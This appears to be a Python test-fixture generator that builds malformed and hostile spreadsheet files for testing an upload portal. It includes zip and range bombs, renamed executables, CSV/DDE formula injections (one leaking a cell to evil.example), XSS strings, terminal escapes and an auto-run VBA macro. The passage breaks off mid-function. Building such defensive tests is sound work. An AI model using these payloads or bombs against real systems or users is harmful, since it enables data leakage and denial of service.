"""The hostile spreadsheet corpus: files a careless export or an attacker could hand the upload form.

`python tests/data/hostile/make_corpus.py` (re)writes the small files committed beside this module; `build(name,
folder)` writes one of the big ones (a million rows, a 1 MB cell of distinct characters, ...) into a folder at
test time, so that no large file is committed. Every file is built here from bytes, with fixed zip timestamps, so
the committed copies are reproducible. tests/portal/test_hostile_inputs.py says, for each file, what is hostile
about it and what the user must be told.

Nothing in here imports the portal: the corpus must not share a bug with the code it tests.
"""

from __future__ import annotations

import codecs
import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

HERE = Path(__file__).resolve().parent
MB = 1024 * 1024

# --- values ----------------------------------------------------------------------------------------------------


def imei(n: int) -> str:
    """A valid IMEI (correct Luhn check digit) made from a running number."""
    body = f"35{n:012d}"
    total = 0
    for position, char in enumerate(body):
        digit = int(char) * (2 if position % 2 else 1)
        total += digit - 9 if digit > 9 else digit
    return body + str((10 - total % 10) % 10)


XSS = '<script>alert("hostile")</script>'
XSS_IMG = '<img src=x onerror=alert("hostile")>'
# What a spreadsheet program would run if these reached a cell unquoted (OWASP's CSV injection examples).
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

# --- xlsx, written by hand so that every byte is under control ---------------------------------------------------

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_STYLES = (
    f'<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="{_MAIN}"><fonts count="1"><font/></fonts>'
    '<fills count="1"><fill/></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
    # xf 1 shows a number as a date (built-in format 14), which is how Excel stores a date.
    '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>'
)


def column_letter(index: int) -> str:
    """0 -> A, 25 -> Z, 26 -> AA."""
    number, letters = index + 1, ""
    while number:
        number, remainder = divmod(number - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def cell(ref: str, value: object) -> str:
    """One <c>: text as an inline string, numbers as numbers, ("date", serial) as a date-formatted number,
    ("formula", text, cached) as a formula with its last computed value (None: never computed)."""
    if isinstance(value, tuple) and value[0] == "date":
        return f'<c r="{ref}" s="1"><v>{value[1]}</v></c>'
    if isinstance(value, tuple) and value[0] == "formula":
        _, formula, cached = value
        if cached is None:
            return f'<c r="{ref}"><f>{escape(formula)}</f></c>'
        if cached.startswith("#"):
            return f'<c r="{ref}" t="e"><f>{escape(formula)}</f><v>{cached}</v></c>'
        return f'<c r="{ref}" t="str"><f>{escape(formula)}</f><v>{escape(cached)}</v></c>'
    if isinstance(value, int | float) and not isinstance(value, bool):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def sheet_xml(rows: Iterable[Iterable[object]], *, merges: Iterable[str] = ()) -> str:
    """A worksheet with the rows from row 1; None leaves a cell out."""
    body = []
    for number, values in enumerate(rows, start=1):
        cells = "".join(
            cell(f"{column_letter(i)}{number}", value) for i, value in enumerate(values) if value is not None
        )
        body.append(f'<row r="{number}">{cells}</row>')
    merged = "".join(f'<mergeCell ref="{ref}"/>' for ref in merges)
    merged = f'<mergeCells count="{len(list(merges))}">{merged}</mergeCells>' if merged else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}" xmlns:r="{_REL}">'
        f"<sheetData>{''.join(body)}</sheetData>{merged}</worksheet>"
    )


def zip_bytes(members: Iterable[tuple[str, bytes | str]], *, level: int = 6) -> bytes:
    """A zip with fixed timestamps (reproducible bytes)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data.encode() if isinstance(data, str) else data, compresslevel=level)
    return buffer.getvalue()


def xlsx(
    sheets: Iterable[tuple[str, str] | tuple[str, str, str]],
    *,
    extra: Iterable[tuple[str, bytes | str]] = (),
    macro: bool = False,
) -> bytes:
    """A workbook of (name, worksheet XML[, state]) sheets; state "hidden" or "veryHidden" hides a sheet."""
    sheets = list(sheets)
    content_type = (
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        if macro
        else ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    )
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{n}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for n in range(1, len(sheets) + 1)
    )
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{content_type}"/>{overrides}</Types>'
    )
    root_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}"><Relationship Id="rId1" '
        f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    entries = "".join(
        f'<sheet name={quoteattr(sheet[0])} sheetId="{n}"{" state=" + quoteattr(sheet[2]) if len(sheet) > 2 else ""}'
        f' r:id="rId{n}"/>'
        for n, sheet in enumerate(sheets, start=1)
    )
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="{_REL}">'
        f"<sheets>{entries}</sheets></workbook>"
    )
    relations = "".join(
        f'<Relationship Id="rId{n}" Type="{_REL}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        for n in range(1, len(sheets) + 1)
    )
    n_styles = len(sheets) + 1
    relations += f'<Relationship Id="rId{n_styles}" Type="{_REL}/styles" Target="styles.xml"/>'
    members: list[tuple[str, bytes | str]] = [
        ("[Content_Types].xml", types),
        ("_rels/.rels", root_rels),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
         f"{relations}</Relationships>"),
        ("xl/styles.xml", _STYLES),
    ]  # fmt: skip
    members += [(f"xl/worksheets/sheet{n}.xml", sheet[1]) for n, sheet in enumerate(sheets, start=1)]
    members += list(extra)
    return zip_bytes(members)


def devices_sheet(n: int = 3, start: int = 1) -> str:
    return sheet_xml([["IMEI", "Order No"], *([imei(start + i), f"PO-{i}"] for i in range(n))])


# --- the committed files -----------------------------------------------------------------------------------------


def zip_bomb() -> bytes:
    # One sheet of 120 MB of spaces inside otherwise valid XML, squeezed to about 120 KB (deflate tops out near
    # 1:1000).
    head = devices_sheet(2).split("<sheetData>")[0].encode()
    with io.BytesIO() as buffer:
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            source = zipfile.ZipFile(io.BytesIO(xlsx([("Devices", devices_sheet(2))])))
            for info in source.infolist():
                if info.filename != "xl/worksheets/sheet1.xml":
                    archive.writestr(info, source.read(info))
            info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w", force_zip64=True) as member:
                member.write(head + b"<sheetData>")
                for _ in range(120):
                    member.write(b" " * MB)
                member.write(b"</sheetData></worksheet>")
        return buffer.getvalue()


def sparse_range_bomb() -> bytes:
    # Two filled cells, A1..A2 and XFD1048576: calamine would allocate a 1,048,576 x 16,384 grid (550 GB).
    rows = (
        f'<row r="1">{cell("A1", "IMEI")}</row><row r="2">{cell("A2", imei(1))}</row>'
        f'<row r="1048576">{cell("XFD1048576", "x")}</row>'
    )
    return xlsx([("Devices", sheet_xml([]).replace("<sheetData></sheetData>", f"<sheetData>{rows}</sheetData>"))])


def rowless_range_bomb() -> bytes:
    # Cells without positions follow the previous one: 16,384 of them across row 1, and one value at row 200,000.
    across = "<c><v>1</v></c>" * 16_383
    rows = f'<row><c t="inlineStr"><is><t>IMEI</t></is></c>{across}</row><row r="200000"><c><v>1</v></c></row>'
    return xlsx([("Devices", sheet_xml([]).replace("<sheetData></sheetData>", f"<sheetData>{rows}</sheetData>"))])


def prefixed_range_bomb() -> bytes:
    # The same trick written with a namespace prefix on every tag, which calamine reads like plain tags.
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><x:worksheet xmlns:x="{_MAIN}"><x:sheetData>'
        '<x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>IMEI</x:t></x:is></x:c></x:row>'
        f'<x:row r="2"><x:c r="A2" t="inlineStr"><x:is><x:t>{imei(1)}</x:t></x:is></x:c></x:row>'
        '<x:row r="150000"><x:c r = "XFD150000"><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>'
    )
    return xlsx([("Devices", xml)])


def lying_sizes() -> bytes:
    # The directory says the sheet is a few hundred bytes; its data unpacks to 40 MB.
    small = devices_sheet(1).encode()
    big = devices_sheet(1).replace("</sheetData>", "<row><c><v>1</v></c></row>" * 1_600_000 + "</sheetData>")
    data = bytearray(xlsx([("Devices", big)]))
    name = b"xl/worksheets/sheet1.xml"
    for signature, crc_at, size_at, name_length_at, name_at in (
        (b"PK\x03\x04", 14, 22, 26, 30),
        (b"PK\x01\x02", 16, 24, 28, 46),
    ):
        position = data.find(signature)
        while position >= 0:
            length = struct.unpack_from("<H", data, position + name_length_at)[0]
            if data[position + name_at : position + name_at + length] == name:
                struct.pack_into("<I", data, position + crc_at, zlib.crc32(small))
                struct.pack_into("<I", data, position + size_at, len(small))
            position = data.find(signature, position + 4)
    return bytes(data)


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal Compound File (OLE2, version 3): what Excel writes around an encrypted .xlsx. Each stream is
    padded to at least 4,096 bytes so that it lives in normal sectors (no mini stream)."""
    sector = 512
    end, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    padded = {name: data.ljust(max(len(data), 4096), b"\0") for name, data in streams.items()}
    chains: list[tuple[str, int, int]] = []  # name, first sector, size
    fat = [fat_sector, end]  # sector 0: the FAT itself; sector 1: the directory
    for name, data in padded.items():
        count = -(-len(data) // sector)
        first = len(fat)
        fat += [first + i + 1 for i in range(count - 1)] + [end]
        chains.append((name, first, len(streams[name])))
    assert len(fat) <= sector // 4, "one FAT sector is enough for the corpus"
    fat += [free] * (sector // 4 - len(fat))

    def entry(name: str, kind: int, start: int, size: int, child: int = free, right: int = free) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBB", len(encoded), kind, 1)  # name length, type, colour black
            + struct.pack("<III", free, right, child)  # left sibling, right sibling, child
            + b"\0" * 16  # CLSID
            + struct.pack("<I", 0)  # state bits
            + b"\0" * 16  # creation and modification times
            + struct.pack("<IQ", start, size)
        )

    entries = [entry("Root Entry", 5, end, 0, child=1)]
    for n, (name, first, size) in enumerate(chains, start=1):
        entries.append(entry(name, 2, first, size, right=n + 1 if n < len(chains) else free))
    directory = b"".join(entries).ljust(sector, b"\0")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)  # DIFAT[0]: the FAT is sector 0
        + struct.pack("<I", free) * 108
    )
    assert len(header) == sector
    body = b"".join(data.ljust(-(-len(data) // sector) * sector, b"\0") for data in padded.values())
    return header + struct.pack(f"<{sector // 4}I", *fat) + directory + body


def password_protected() -> bytes:
    # Agile encryption: an EncryptionInfo stream (version 4.4, an XML descriptor) and the EncryptedPackage (the
    # real .xlsx, encrypted: here random-looking bytes behind its 8-byte size).
    info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns='
        b'"http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" '
        b'keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" '
        b'hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>'
    )
    package = struct.pack("<Q", 8192) + bytes((n * 73 + 41) % 251 for n in range(8192))
    return cfb({"EncryptionInfo": info, "EncryptedPackage": package})


def renamed_pdf() -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def renamed_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pixels = zlib.compress(b"\0\xff\x00\x00" * 4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 4, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def renamed_elf() -> bytes:
    header = (
        b"\x7fELF\x02\x01\x01\x00"
        + b"\0" * 8
        + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    )
    return header + b"\0" * 64 + b"\x48\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05" + b"\0" * 400


def renamed_exe() -> bytes:
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + b"\0" * 44
        + struct.pack("<I", 128)
        + stub.ljust(64, b"\0")
        + b"PE\0\0"
        + b"\0" * 600
    )


def renamed_gzip() -> bytes:
    # Compressed data looks random: few NULs (so not obviously binary), but bytes no text encoding uses.
    state, noise = 12345, bytearray()
    for _ in range(3000):
        state = (state * 1103515245 + 12345) % 2**31
        noise.append(state >> 16 & 0xFF)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(noise)


def xlsb() -> bytes:
    return zip_bytes(
        [
            ("[Content_Types].xml", "<Types/>"),
            ("xl/workbook.bin", b"\x83\x01\x00"),
            ("xl/worksheets/sheet1.bin", b"\x81\x01\x00"),
        ]
    )


def docx() -> bytes:
    return zip_bytes(
        [
            ("[Content_Types].xml", "<Types/>"),
            ("word/document.xml", f"<w:document><w:body>{imei(1)}</w:body></w:document>"),
        ]
    )


def truncated() -> bytes:
    whole = xlsx([("Devices", devices_sheet(40))])
    return whole[: len(whole) // 2]


def no_sheets() -> bytes:
    workbook = f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets/></workbook>'
    return zip_bytes([
        ("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
        ("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="{_PKG_REL}"><Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", f'<?xml version="1.0"?><Relationships xmlns="{_PKG_REL}"/>'),
    ])  # fmt: skip


def html_xls() -> bytes:
    # What many ERPs and web tools save as "Excel": an HTML table with an .xls name.
    rows = "".join(f"<tr><td>{imei(n)}</td><td>PO-{n}</td></tr>" for n in range(1, 6))
    return (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
        '<head><meta charset="utf-8"><!--[if gte mso 9]><xml><x:ExcelWorkbook></x:ExcelWorkbook></xml><![endif]-->'
        f"</head><body><table><tr><th>IMEI</th><th>Order No</th></tr>{rows}</table></body></html>"
    ).encode()


def spreadsheetml_2003() -> bytes:
    rows = "".join(f'<Row><Cell><Data ss:Type="String">{imei(n)}</Data></Cell></Row>' for n in range(1, 4))
    return (
        '<?xml version="1.0"?>\r\n<?mso-application progid="Excel.Sheet"?>\r\n<Workbook xmlns="urn:schemas-microsoft-'
        'com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Devices">'
        f'<Table><Row><Cell><Data ss:Type="String">IMEI</Data></Cell></Row>{rows}</Table></Worksheet></Workbook>'
    ).encode()


def formulas_xlsx() -> bytes:
    rows = [
        ["IMEI", "Order No", "Model"],
        # A formula with the value Excel computed last: the value is read, the formula never.
        [("formula", f'HYPERLINK("http://evil.example/","{imei(1)}")', imei(1)), ("formula", 'HYPERLINK("http://evil.example/","PO-1")', "PO-1"), "SM-A546B"],
        # DDE: Excel shows an error until the user allows it to run a program.
        [("formula", "cmd|' /C calc'!A0", "#REF!"), "PO-2", ("formula", "cmd|' /C calc'!A0", "#REF!")],
        # Never computed (written by a tool, not by Excel): no value at all.
        [("formula", "1+1", None), "PO-3", "SM-A546B"],
        # Typed as text: the characters are what the user sees.
        ["=HYPERLINK(\"http://evil.example/\",\"x\")", "=1+1", "@SUM(A1)"],
        ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-1+1"],
        [imei(2), "=HYPERLINK(\"http://evil.example/\",\"PO\")", "=cmd|' /C calc'!A0"],
    ]  # fmt: skip
    return xlsx([("Devices", sheet_xml(rows))])


def formulas_csv() -> bytes:
    return (
        "IMEI,Order No,Model\r\n"
        f'"=HYPERLINK(""http://evil.example/"",""{imei(1)}"")",PO-1,SM-A546B\r\n'
        "=cmd|' /C calc'!A0,PO-2,SM-A546B\r\n"
        f'{imei(2)},"=HYPERLINK(""http://evil.example/?q=""&A2,""Order"")",=cmd|\' /C calc\'!A0\r\n'
    ).encode()


def csv_injection() -> bytes:
    # Every payload in every text column (order number, model, approve ID), each on a valid IMEI; and each
    # payload once in the IMEI column.
    out = io.StringIO()
    out.write("IMEI,Order No,Model,Approve ID,Notes\r\n")
    n = 10
    for payload in INJECTIONS:
        quoted = csv_quoted(payload)
        out.write(f"{imei(n)},{quoted},{quoted},{quoted},{quoted}\r\n")
        out.write(f"{quoted},PO-{n},SM-A546B,LOAN-{n},\r\n")
        n += 1
    return out.getvalue().encode()


def merged_cells() -> bytes:
    rows = [["IMEI", "Order No", None], [imei(1), "PO-1", "PO-1b"], [None, "PO-2"], [None, "PO-3"], [imei(2), "PO-4"]]
    return xlsx([("Devices", sheet_xml(rows, merges=["A2:A4", "B1:C1"]))])


def hidden_sheet_only() -> bytes:
    # The visible sheet is a cover page; the devices are on a hidden sheet.
    cover = sheet_xml([["Order for Acme Mobile"], ["See the attached list"]])
    return xlsx([("Cover", cover), ("Devices", devices_sheet(3), "hidden")])


def first_sheet_hidden() -> bytes:
    # A hidden first sheet holds other devices (decoys); the visible sheet is the real list.
    return xlsx([("Old list", devices_sheet(3, start=500), "veryHidden"), ("Devices", devices_sheet(3))])


def mixed_encoding() -> bytes:
    # 2,500 rows of UTF-8 (past the 64 KB the encoding is chosen from), then rows saved in cp1252.
    head = "IMEI,Model,Order No\r\n" + "".join(f"{imei(n)},Café,PO-ü{n}\r\n" for n in range(2500))
    tail = f"{imei(9001)},Café,PO-ü9001\r\n{imei(9002)}\u00a0,Caf\u00e9,PO-9002\r\n"
    return head.encode("utf-8") + tail.encode("cp1252")


def utf16_no_bom() -> bytes:
    return "".join(["IMEI\tOrder No\tModèle\r\n"] + [f"{imei(n)}\tPO-{n}\tGalaxy\r\n" for n in range(1, 4)]).encode(
        "utf-16-le"
    )


def control_characters() -> bytes:
    return (
        b"IMEI,Order No,Model\r\n"
        + imei(1).encode()[:7] + b"\x00" + imei(1).encode()[7:] + b",PO-1,SM\x00A546B\r\n"
        + b"\x1b[31m" + imei(2).encode() + b"\x1b[0m,PO-2\x1b]0;pwned\x07,SM-A546B\r\n"
        + b'"' + imei(3).encode()[:8] + b"\r" + imei(3).encode()[8:] + b'",PO-3,SM-A546B\r\n'
        + imei(4).encode() + b",PO-\x084\x7f,SM-A546B\r\n"
    )  # fmt: skip


def commas() -> bytes:
    return f"IMEI,Order No\r\n{imei(1)},PO-1{',' * 10_000}\r\n{imei(2)},PO-2\r\n".encode()


def mismatched_quotes() -> bytes:
    return (
        f'IMEI,Order No\r\n"{imei(1)},PO-1\r\n{imei(2)},"PO"2"\r\n{imei(3)},PO-3"\r\n{imei(4)},PO-4\r\n'
        f'"{imei(5)}"x,PO-5\r\n'
    ).encode()


def unclosed_quote() -> bytes:
    # The quote opened in row 2 is never closed: the next 150 KB of rows run into one cell.
    rows = "".join(f"{imei(n)},PO-{n}\r\n" for n in range(2, 6000))
    return f'IMEI,Order No\r\n{imei(1)},"PO-1\r\n{rows}'.encode()


def long_cell_csv(path: Path) -> None:
    path.write_bytes(f"IMEI,Order No\r\n{imei(1)},PO-1\r\n{'9' * MB},PO-2\r\n".encode())


def long_cell_xlsx() -> bytes:
    return xlsx([("Devices", sheet_xml([["IMEI", "Order No"], [imei(1), "PO-1"], ["35" * (MB // 2), "X" * MB]]))])


def duplicate_headers() -> bytes:
    return (
        "IMEI,Order No,IMEI\r\n"
        + "".join(f"{imei(n)},PO-{n},{imei(100 + n)}\r\n" for n in range(1, 4))
    ).encode()  # fmt: skip


def header_only() -> bytes:
    return b"IMEI,Order No,Model\r\n,,\r\n"


def whitespace_only() -> bytes:
    return b"   \r\n\t\t\r\n \xc2\xa0 \r\n\r\n"


def bom_only() -> bytes:
    return codecs.BOM_UTF8


def csv_quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def xss() -> bytes:
    script, img = csv_quoted(XSS), csv_quoted(XSS_IMG)
    return (
        f"IMEI,Order No,Model\r\n{imei(1)},{script},{img}\r\n{script},PO-2,SM-A546B\r\n{img},PO-3,SM-A546B\r\n"
    ).encode()


def no_device_column() -> bytes:
    # No header names a device column; every header is hostile, and one is 5,000 characters long.
    headers = [XSS, XSS_IMG, "=cmd|' /C calc'!A0", "Notes " * 1000]
    quoted = ",".join(csv_quoted(h) for h in headers)
    return f"{quoted}\r\n{imei(1)},a,b,c\r\n".encode()


def json_as_txt() -> bytes:
    return f'[{{"imei": "{imei(1)}", "order": "PO-1"}}, {{"imei": "{imei(2)}", "order": "PO-2"}}]\n'.encode()


def json_file() -> bytes:
    return json_as_txt()


def floats_csv() -> bytes:
    return b"IMEI,Order No\r\n3.5922114535034e+14,PO-1\r\n3.51121670763365E+14,PO-2\r\n359221145350335.5,PO-3\r\nNaN,PO-4\r\ninf,PO-5\r\n"


def floats_xlsx() -> bytes:
    # Numbers as Excel stores them: a double, rounded to 15 significant digits, and fractions.
    return xlsx(
        [
            (
                "Devices",
                sheet_xml(
                    [["IMEI"], [359221145350340.0], [3.5922114535034e14], [35922114535.0335], [1e300], [0.000001]]
                ),
            )
        ]
    )


def negative_numbers() -> bytes:
    return xlsx(
        [("Devices", sheet_xml([["IMEI", "Order No"], [-int(imei(1)), -1], [-int(imei(2)), "PO-2"], [-0.0, "PO-3"]]))]
    )


def dates() -> bytes:
    # A device column Excel turned into dates (45356 is 2024-03-05), plus dates typed as text.
    rows = [
        ["IMEI", "Order No"],
        [("date", 45356), "PO-1"],
        [("date", 45356.5), "PO-2"],
        [("date", 1), "PO-3"],
        ["2024-03-05", "PO-4"],
        ["05/03/2024", "PO-5"],
    ]
    return xlsx([("Devices", sheet_xml(rows))])


def long_header() -> bytes:
    # "IMEI" followed by 600 characters of punctuation still reads as an IMEI header.
    return (f"IMEI{'.' * 300}{'-' * 300},Order No\r\n" + "".join(f"{imei(n)},PO-{n}\r\n" for n in range(1, 4))).encode()


def long_sheet_name() -> bytes:
    # Excel allows 31 characters; the XML allows any number (and any markup, escaped).
    return xlsx([(XSS + " " + "Devices " * 40, devices_sheet(3))])


def macro_xlsm() -> bytes:
    # A macro-enabled workbook with a VBA project: read as data, never run.
    vba = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "calc"\r\nEnd Sub\r\n'
    )
    return xlsx([("Devices", devices_sheet(3))], extra=[("xl/vbaProject.bin", vba)], macro=True)


def plain_devices() -> bytes:
    """A valid file, uploaded under hostile names (path traversal, RTL override, markup, very long)."""
    return b"IMEI,Order No\r\n" + "".join(f"{imei(n)},PO-{n}\r\n" for n in range(1, 4)).encode()


COMMITTED: dict[str, Callable[[], bytes]] = {
    "zip-bomb.xlsx": zip_bomb,
    "sparse-range-bomb.xlsx": sparse_range_bomb,
    "rowless-range-bomb.xlsx": rowless_range_bomb,
    "prefixed-range-bomb.xlsx": prefixed_range_bomb,
    "lying-sizes.xlsx": lying_sizes,
    "password-protected.xlsx": password_protected,
    "pdf-renamed.xlsx": renamed_pdf,
    "png-renamed.xls": renamed_png,
    "elf-renamed.csv": renamed_elf,
    "exe-renamed.xlsx": renamed_exe,
    "gzip-renamed.csv": renamed_gzip,
    "xlsb-renamed.xlsx": xlsb,
    "docx-renamed.xlsx": docx,
    "truncated.xlsx": truncated,
    "no-sheets.xlsx": no_sheets,
    "html-export.xls": html_xls,
    "spreadsheetml-2003.xls": spreadsheetml_2003,
    "formulas.xlsx": formulas_xlsx,
    "formulas.csv": formulas_csv,
    "csv-injection.csv": csv_injection,
    "merged-cells.xlsx": merged_cells,
    "hidden-sheet-only.xlsx": hidden_sheet_only,
    "first-sheet-hidden.xlsx": first_sheet_hidden,
    "mixed-encoding.csv": mixed_encoding,
    "utf16-no-bom.txt": utf16_no_bom,
    "control-characters.csv": control_characters,
    "commas-10000.csv": commas,
    "mismatched-quotes.csv": mismatched_quotes,
    "unclosed-quote.csv": unclosed_quote,
    "long-cell-1mb.xlsx": long_cell_xlsx,
    "duplicate-headers.csv": duplicate_headers,
    "empty.csv": bytes,
    "zero-byte.xlsx": bytes,
    "header-only.csv": header_only,
    "whitespace-only.csv": whitespace_only,
    "bom-only.csv": bom_only,
    "xss.csv": xss,
    "no-device-column.csv": no_device_column,
    "json-as.txt": json_as_txt,
    "devices.json": json_file,
    "floats.csv": floats_csv,
    "floats.xlsx": floats_xlsx,
    "negative-numbers.xlsx": negative_numbers,
    "dates.xlsx": dates,
    "long-header.csv": long_header,
    "long-sheet-name.xlsx": long_sheet_name,
    "macro.xlsm": macro_xlsm,
    "plain-devices.csv": plain_devices,
    "rtl-override.exe": renamed_exe,
}

# --- the big files, built at test time ---------------------------------------------------------------------------


def million_rows_csv(path: Path) -> None:
    # 17 MB: under the 20 MB size limit, five times over the row limit.
    with path.open("wb") as out:
        out.write(b"IMEI\r\n")
        for start in range(0, 1_000_000, 10_000):
            out.write("".join(f"{imei(n)}\r\n" for n in range(start, start + 10_000)).encode())


def million_rows_xlsx(path: Path) -> None:
    info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=(2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    source = zipfile.ZipFile(io.BytesIO(xlsx([("Devices", devices_sheet(1))])))
    with zipfile.ZipFile(path, "w") as archive:
        for member in source.infolist():
            if member.filename != info.filename:
                archive.writestr(member, source.read(member))
        with archive.open(info, "w", force_zip64=True) as sheet:
            sheet.write(f'<?xml version="1.0"?><worksheet xmlns="{_MAIN}"><sheetData><row r="1">'.encode())
            sheet.write(b'<c r="A1" t="inlineStr"><is><t>IMEI</t></is></c></row>')
            for start in range(2, 1_000_002, 10_000):
                sheet.write(
                    "".join(
                        f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(start, start + 10_000)
                    ).encode()
                )
            sheet.write(b"</sheetData></worksheet>")


def ten_thousand_columns(path: Path) -> None:
    header = ["IMEI"] + [f"Column {n}" for n in range(1, 10_000)]
    rows = [header] + [[imei(r)] + [f"r{r}c{n}" for n in range(1, 10_000)] for r in range(1, 4)]
    path.write_bytes(xlsx([("Devices", sheet_xml(rows))]))


def distinct_characters_cell(path: Path) -> None:
    # A 1 MB cell of 300,000 different characters in the IMEI column (the reason names the offending ones).
    text = "".join(chr(c) for c in range(0x4E00, 0x9FFF)) + "".join(
        chr(c) for c in range(0x20000, 0x20000 + 300_000 - (0x9FFF - 0x4E00))
    )
    path.write_bytes(xlsx([("Devices", sheet_xml([["IMEI"], [imei(1)], [text]]))]))


def zip_bomb_many_members(path: Path) -> None:
    # 30 members of 9.5 MB, each below the size at which one member alone looks suspicious; 285 MB together.
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        source = zipfile.ZipFile(io.BytesIO(xlsx([("Devices", devices_sheet(2))])))
        for member in source.infolist():
            archive.writestr(member, source.read(member))
        block = b" " * (MB // 2)
        for n in range(30):
            with archive.open(f"xl/media/padding{n}.xml", "w") as member:
                for _ in range(19):
                    member.write(block)


def _raw_sheet(rows: str) -> str:
    return sheet_xml([]).replace("<sheetData></sheetData>", f"<sheetData>{rows}</sheetData>")


def far_cells_on_every_sheet(path: Path) -> None:
